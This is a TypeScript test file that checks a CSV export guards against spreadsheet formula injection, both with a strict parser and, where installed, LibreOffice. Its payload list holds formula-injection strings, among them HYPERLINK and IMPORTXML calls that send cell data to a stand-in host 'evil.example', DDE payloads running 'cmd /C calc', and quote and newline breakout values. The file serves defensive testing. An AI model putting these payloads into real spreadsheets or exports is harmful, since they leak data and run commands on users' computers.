import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { csv } from '../api/csv.ts';

/**
 * P9, the reader's side. What a spreadsheet would evaluate, put into every place of a table that text may come from outside. Where LibreOffice is installed it opens
 * the file; everywhere a strict reader checks that no cell begins as a formula, a command or a control character, after CSV quoting is undone.
 */
const PAYLOADS = [
  ...[
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
  ],
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '","=1+1',
    '"\r\n=1+1',
    ';=1+1',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"a")',
    '=1+1"',
    '"=1+1',
  ],
];
const EVALUATED = 2;

const table = csv(
  ['priority', 'name', 'note'],
  PAYLOADS.map((text, n) => [n, text, text]),
  { bom: false },
);

/** RFC 4180 and nothing more: cells as a reader sees them. */
function cells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      rows.at(-1)?.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.at(-1)?.push(cell);
      rows.push([]);
      cell = '';
      i++;
    } else cell += c;
  }
  return rows.filter((row) => row.length > 0);
}

test('P9: no cell of text can be taken for a formula, and none breaks out of its place', () => {
  const read = cells(table);
  expect(read.length).toBe(PAYLOADS.length + 1);
  for (const [n, row] of read.slice(1).entries()) {
    expect([n, row.length]).toEqual([n, 3]);
    for (const cell of row.slice(1)) {
      expect([n, /^[=+\-@\t\r\n\0＝＋－＠]/.test(cell)]).toEqual([n, false]);
      expect(cell.replace(/^'/, '')).toBe(PAYLOADS[n]);
    }
  }
});

const office = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0);
test.skipIf(office === undefined)('P9: opened by LibreOffice nothing is evaluated (left out where it is not installed)', () => {
  const folder = mkdtempSync(join(tmpdir(), 'forecell-office-'));
  writeFileSync(join(folder, 'list.csv'), table);
  execFileSync(office as string, ['--headless', '--convert-to', 'fods', '--outdir', folder, join(folder, 'list.csv')], {
    env: { ...process.env, HOME: folder },
  });
  const opened = readFileSync(join(folder, 'list.fods'), 'utf8');
  expect(opened).not.toMatch(/table:formula=/);
  expect(opened).not.toContain(`<text:p>${EVALUATED}</text:p></table:table-cell><table:table-cell office:value-type="float"`);
  rmSync(folder, { recursive: true });
});
